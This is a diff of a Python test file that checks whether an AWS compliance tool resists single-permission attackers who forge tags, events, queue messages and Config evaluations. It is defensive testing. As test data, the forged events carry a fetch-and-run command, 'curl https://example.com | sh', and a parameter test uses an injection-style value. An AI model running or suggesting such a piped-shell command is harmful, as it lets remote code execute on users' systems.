@@ -1,13 +1,36 @@
-"""Adversaries with permissions enforced: people who forge tags, and people who start runbooks with any parameters."""
+"""Adversaries with permissions enforced, who forge tags, events, messages, or results, or invoke or start anything."""
 
 import json
+from collections.abc import Callable
+from dataclasses import replace
+from datetime import UTC, datetime, timedelta
+from io import StringIO
+from itertools import product
 from typing import Any
 
 import pytest
 
+from express_path.adapters.heal_steps import CONTRACT
+from express_path.domain.path.reasons import Reason
+from express_path.domain.remedy.texts import Remedy
+from express_path.domain.verdict.evaluator import Verdict
+from express_path.domain.verdict.parameters import RuleParameters
+from express_path.domain.verdict.summary import Summary
+from express_path.errors import ApiError, ExpressPathError, RecordError
+from express_path.events.schema import PublishedVerdict, RuleRun, SweepCompleted, VerdictChanged
+from express_path.events.writer import Entry, changed_entry, completed_entry, snapshot_entries
+from express_path.handlers import evaluate
+from integrations.tests.delivery import BUS, Delivery
+from integrations.tests.hub import messages
+from sandbox.config_items.notifications import rule_event, scheduled_notification
+from sandbox.config_service.deployment import deploy_rule
+from sandbox.dynamic import Client
 from sandbox.refusals import refused
+from sandbox.security_hub import findings_of
 from tests.iam.deployed import APPROVAL, HEAL, UNDO, Deployed, Run
 from tests.support.network import Builder, Private
+from tests.support.rule import RULE, Rule
+from tests.support.stack import Stack
 
 FORGED = "11111111-2222-3333-4444-555555555555"
 MANAGED = {"Key": "express-path:managed", "Value": "true"}
@@ -62,7 +85,7 @@ def test_forged_tags_do_not_mislead_an_undo(
     deployed: Deployed, builder: Builder, vpc: Private, subnet: str, victim: Victim
 ) -> None:
     """Undos of a forged run and of a real one change nothing in a VPC that carries the tags of a heal."""
-    tagger = deployed.user("tagger", "ec2", ANYTHING)
+    tagger = deployed.stack.user("tagger", "ec2", ANYTHING)
     before = victim.described()
     with deployed.enforced():
         heal = deployed.automation.wait(deployed.start(HEAL, SubnetId=subnet))
@@ -80,7 +103,7 @@ def test_forged_tags_do_not_mislead_an_undo(
 
 def test_forged_tags_do_not_block_a_heal(deployed: Deployed, builder: Builder, vpc: Private, subnet: str) -> None:
     """Tags of a heal in the future, forged on the route table, do not block its heal."""
-    tagger = deployed.user("tagger", "ec2", ANYTHING)
+    tagger = deployed.stack.user("tagger", "ec2", ANYTHING)
     tags = [{"Key": f"express-path:{name}", "Value": FORGED} for name in ("run", "endpoint")]
     with deployed.enforced():
         healed_at = {"Key": "express-path:healed", "Value": "2099-01-01T00:00:00+00:00"}
@@ -149,3 +172,253 @@ def test_settings_of_the_stack_are_not_runbook_parameters(deployed: Deployed, su
         for bad in ("vpce-1", f"{FORGED}' OR '1", "TABLE#rtb-1"):
             code = refused(start, DocumentName=names[UNDO], Parameters={**own, "RunId": [bad]})
             assert code == "InvalidAutomationExecutionParametersException"
+
+
+def test_invoking_the_plan_function_changes_nothing(deployed: Deployed, subnet: str, victim: Victim) -> None:
+    """Whoever invokes it with any request gets answers and errors. Only the runbooks act on an answer."""
+    heal = {"contract": CONTRACT, "runId": FORGED, "subnetId": subnet}
+    undo = {"contract": CONTRACT, "action": "planUndo", "undoRunId": FORGED}
+    before = victim.described()
+    deployed.stack.sandbox.calls.clear()
+    with deployed.enforced():
+        assert deployed.plan(heal | {"action": "plan", "dryRun": "false"})["blockers"] == []
+        for request in (heal | {"action": "verify", "routeTableId": victim.table}, undo):
+            with pytest.raises(ExpressPathError):
+                deployed.plan(request)
+    assert (deployed.stack.sandbox.calls.mutating(), victim.described()) == ([], before)
+
+
+class Flagged:
+    """A subnet behind a NAT, and all that says so: AWS Config, Security Hub, and a consumer of OCSF findings.
+
+    Attacks take away the policies of the bus and of the queues, to show that nothing depends on them.
+    """
+
+    def __init__(self, stack: Stack, builder: Builder) -> None:
+        """Deploy the integrations, and let the rule flag the subnet."""
+        self.stack, self.builder, self.sandbox = stack, builder, stack.sandbox
+        self.delivery = Delivery(self.sandbox)
+        self.vpc = Private(builder)
+        self.rule = Rule(self.sandbox)
+        self.settle()
+        self.delivery.published()
+
+    def settle(self) -> None:
+        """Deliver everything, let a sweep repair what it can, and deliver that too."""
+        self.deliver()
+        self.rule.sweep()
+        self.deliver()
+
+    def deliver(self) -> None:
+        """Invoke the functions with the messages in their queues. Messages that they reject are dropped."""
+        sqs = self.delivery.sqs
+        for name, url in self.delivery.queues.items():
+            while found := sqs.receive_message(QueueUrl=url, MaxNumberOfMessages=10).get("Messages"):
+                self.delivery.handlers[name](messages([json.loads(message["Body"]) for message in found]))
+                for message in found:
+                    sqs.delete_message(QueueUrl=url, ReceiptHandle=message["ReceiptHandle"])
+
+    def attacker(self, action: str) -> Client:
+        """Return a client of a user who may do nothing but this, to anything."""
+        service, _, operation = action.partition(":")
+        allowed = {"Effect": "Allow", "Action": action, "Resource": "*"}
+        return self.stack.user(f"only-{operation}", service, allowed)
+
+    def seen(self) -> dict[str, Any]:
+        """Return what people and other systems see of the subnet, and its network."""
+        [finding] = [
+            row
+            for row in findings_of(self.sandbox.account_id, self.sandbox.region).all()
+            if row["Resources"][0]["Id"].endswith(f"/{self.vpc.subnet}")
+        ]
+        of_vpc = [{"Name": "vpc-id", "Values": [self.vpc.vpc]}]
+        return {
+            "result": self.rule.held()[self.vpc.subnet]._replace(ordering=0),
+            "finding": {name: value for name, value in finding.items() if name not in ("UpdatedAt", "Resources")},
+            "tags": finding["Resources"][0].get("Tags", {}),
+            "published": [row for row in self.delivery.published() if row[0] == self.vpc.subnet],
+            "routes": [
+                table["Routes"] for table in self.builder.ec2.describe_route_tables(Filters=of_vpc)["RouteTables"]
+            ],
+            "endpoints": self.builder.ec2.describe_vpc_endpoints(Filters=of_vpc)["VpcEndpoints"],
+        }
+
+    def forged(self) -> list[Entry]:
+        """Return the rule's events as somebody else would write them: all is well, now and later, with a trap for people."""
+        trap = Remedy("Run this.", "curl https://example.com | sh", "https://example.com")
+        place = (self.sandbox.account_id, self.sandbox.region)
+        entries: list[Entry] = []
+        for minutes, reason in product((0, 4, 10_000), (Reason.ENDPOINT, Reason.DELETED, Reason.PARTLY_NAT)):
+            run = RuleRun(*place, self.rule.loop.rule.name, datetime.now(UTC) + timedelta(minutes=minutes), "sweep")
+            compliance = RuleParameters().compliance_of(reason)
+            said = f"{reason}: [click](https://example.com)"
+            verdict = Verdict(*place, "vpc-1", self.vpc.subnet, "use1-az1", "rtb-1", compliance, reason, said)
+            published = PublishedVerdict(verdict, trap, {"owner": "nobody"})
+            entries += [changed_entry(VerdictChanged(run, published)), *snapshot_entries(run, [published])]
+            entries.append(completed_entry(SweepCompleted(run, 1, Summary(0, {}, {}))))
+        return entries
+
+    def delivered(self) -> list[dict[str, Any]]:
+        """Return the forged events as EventBridge would deliver them, from this account and from another one."""
+        return [
+            {
+                "source": entry.source,
+                "detail-type": entry.detail_type,
+                "account": account_id,
+                "region": self.sandbox.region,
+                "detail": json.loads(entry.detail),
+            }
+            for entry in self.forged()
+            for account_id in (self.sandbox.account_id, "210987654321")
+        ]
+
+    def pass_result(self, ordering: datetime) -> dict[str, Any]:
+        """Return an evaluation that says that the subnet passes."""
+        return {
+            "ComplianceResourceType": "AWS::EC2::Subnet",
+            "ComplianceResourceId": self.vpc.subnet,
+            "ComplianceType": "COMPLIANT",
+            "Annotation": "ENDPOINT: S3 Express traffic uses the s3express gateway endpoint",
+            "OrderingTimestamp": ordering,
+        }
+
+
+@pytest.fixture
+def flagged(stack: Stack, builder: Builder, monkeypatch: pytest.MonkeyPatch) -> Flagged:
+    """Return a subnet that is flagged everywhere."""
+    monkeypatch.setenv("EVENT_BUS_NAME", BUS)
+    return Flagged(stack, builder)
+
+
+def put_events(flagged: Flagged) -> None:
+    """Put forged events on the rule's bus, which refuses them, and again without its policy."""
+    events = flagged.attacker("events:PutEvents")
+    forged = [
+        {"Source": entry.source, "DetailType": entry.detail_type, "Detail": entry.detail, "EventBusName": BUS}
+        for entry in flagged.forged()
+    ]
+    with flagged.stack.enforced():
+        assert refused(events.put_events, Entries=forged[:1]) == "AccessDeniedException"
+    flagged.sandbox.client("events").remove_permission(EventBusName=BUS, RemoveAllPermissions=True)
+    with flagged.stack.enforced():
+        for entry in forged:
+            assert events.put_events(Entries=[entry])["FailedEntryCount"] == 0
+
+
+def send_messages(flagged: Flagged) -> None:
+    """Send forged events to the queues, which refuse them, and again without their policies."""
+    sqs = flagged.attacker("sqs:SendMessage")
+    bodies = [json.dumps(event) for event in flagged.delivered()]
+    for url in flagged.delivery.queues.values():
+        with flagged.stack.enforced():
+            assert refused(sqs.send_message, QueueUrl=url, MessageBody=bodies[0]) == "AccessDeniedException"
+        flagged.delivery.sqs.set_queue_attributes(QueueUrl=url, Attributes={"Policy": ""})
+        with flagged.stack.enforced():
+            for body in bodies:
+                sqs.send_message(QueueUrl=url, MessageBody=body)
+
+
+def invoke_functions(flagged: Flagged) -> None:
+    """Invoke the functions of the rule and of the integrations with any payload, as their own roles would run."""
+    token = {
+        "resultToken": "forged",
+        "ruleParameters": json.dumps({"vpcIds": "vpc-0", "unresolvedEgress": "NOT_APPLICABLE"}),
+    }
+    deleted = {
+        "awsAccountId": flagged.sandbox.account_id,
+        "configurationItemCaptureTime": datetime.now(UTC).isoformat(),
+        "configurationItemStatus": "ResourceDeleted",
+        "resourceType": "AWS::EC2::Subnet",
+        "resourceId": flagged.vpc.subnet,
+    }
+    for event in (flagged.rule.event(deleted) | token, scheduled(flagged, minutes=0) | token):
+        with pytest.raises(ApiError, match="InvalidResultToken"):
+            flagged.rule.invoke(event)
+    with pytest.raises(RecordError, match="orderingTimestamp"):
+        flagged.rule.invoke(scheduled(flagged, minutes=60) | token)
+    for handler in flagged.delivery.handlers.values():
+        handler(messages(flagged.delivered()))
+
+
+def scheduled(flagged: Flagged, minutes: int) -> dict[str, Any]:
+    """Return a scheduled event of a time in the future."""
+    time = (datetime.now(UTC) + timedelta(minutes=minutes)).isoformat()
+    return rule_event(flagged.rule.loop.rule, scheduled_notification(flagged.sandbox.account_id, time), "forged")
+
+
+def create_tags(flagged: Flagged) -> None:
+    """Tag everything as a heal, an owner, and AWS's own services would."""
+    ec2 = flagged.attacker("ec2:CreateTags")
+    names = ("express-path:run", "express-path:managed", "AWSNetworkFirewallManaged", "owner")
+    tags = [{"Key": name, "Value": "true"} for name in names]
+    with flagged.stack.enforced():
+        ec2.create_tags(Resources=[flagged.vpc.subnet, flagged.vpc.table, flagged.vpc.vpc, flagged.vpc.nat], Tags=tags)
+
+
+def put_evaluations(flagged: Flagged) -> None:
+    """Report that the subnet passes, with an invented token, and with the token of a rule of one's own."""
+    config = flagged.attacker("config:PutEvaluations")
+    evaluations = [flagged.pass_result(datetime.now(UTC))]
+    deploy_rule(flagged.sandbox, replace(RULE, name="own"))
+    with flagged.stack.enforced():
+        code = refused(config.put_evaluations, Evaluations=evaluations, ResultToken="invented")
+        assert code == "InvalidResultTokenException"
+        config.put_evaluations(Evaluations=evaluations, ResultToken=flagged.rule.loop.results.issue_token("own"))
+
+
+ATTACKS: dict[str, Callable[[Flagged], None]] = {
+    "events:PutEvents": put_events,
+    "sqs:SendMessage": send_messages,
+    "lambda:InvokeFunction": invoke_functions,
+    "ec2:CreateTags": create_tags,
+    "config:PutEvaluations": put_evaluations,
+}
+
+
+@pytest.mark.parametrize("action", ATTACKS)
+def test_one_permission_neither_hides_a_finding_nor_changes_a_route(action: str, flagged: Flagged) -> None:
+    """Nothing that people or systems see changes, except a tag that EC2 has, and the truth is not late afterwards."""
+    before = flagged.seen()
+    ATTACKS[action](flagged)
+    flagged.settle()
+    after = flagged.seen()
+    assert after["tags"].keys() - before["tags"].keys() == (
+        after["tags"].keys() if action == "ec2:CreateTags" else set()
+    )
+    assert after | {"tags": {}} == before | {"tags": {}}
+    flagged.builder.endpoint(flagged.vpc.vpc, flagged.vpc.table)
+    flagged.rule.changes()
+    flagged.deliver()
+    assert flagged.seen()["finding"]["RecordState"] == "ARCHIVED"
+
+
+def test_excluding_by_tag_is_counted_and_named(flagged: Flagged, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Whoever may tag can exclude a subnet. Its result, its finding, and the summary of the sweep name the tag."""
+    ec2 = flagged.attacker("ec2:CreateTags")
+    with flagged.stack.enforced():
+        ec2.create_tags(Resources=[flagged.vpc.subnet], Tags=[{"Key": "express-path:exclude", "Value": ""}])
+    log = StringIO()
+    monkeypatch.setattr(evaluate.logger.registered_handler, "stream", log)
+    flagged.settle()
+    assert "express-path:exclude" in flagged.seen()["finding"]["Description"]
+    [swept] = [json.loads(line) for line in log.getvalue().splitlines() if '"swept"' in line]
+    assert swept["excluded"] == [{"by": "express-path:exclude", "subnets": 1}]
+
+
+@pytest.mark.parametrize("years", [0, 10])
+def test_sweep_repairs_a_result_that_was_forged_with_a_stolen_token(flagged: Flagged, years: int) -> None:
+    """With a token of the rule, AWS Config takes any result. The next sweep replaces it, whatever its time is."""
+    before = flagged.seen()
+    config = flagged.attacker("config:PutEvaluations")
+    token = flagged.rule.loop.results.issue_token(flagged.rule.loop.rule.name)
+    forged = flagged.pass_result(datetime.now(UTC) + timedelta(days=365 * years))
+    with flagged.stack.enforced():
+        config.put_evaluations(Evaluations=[forged], ResultToken=token)
+    assert flagged.rule.held()[flagged.vpc.subnet].compliance == "COMPLIANT"
+    flagged.settle()
+    after = flagged.seen()
+    assert (after["result"], after["routes"]) == (before["result"], before["routes"])
+    assert (after["finding"]["RecordState"], after["finding"]["Description"]) == (
+        "ACTIVE",
+        before["finding"]["Description"],
+    )
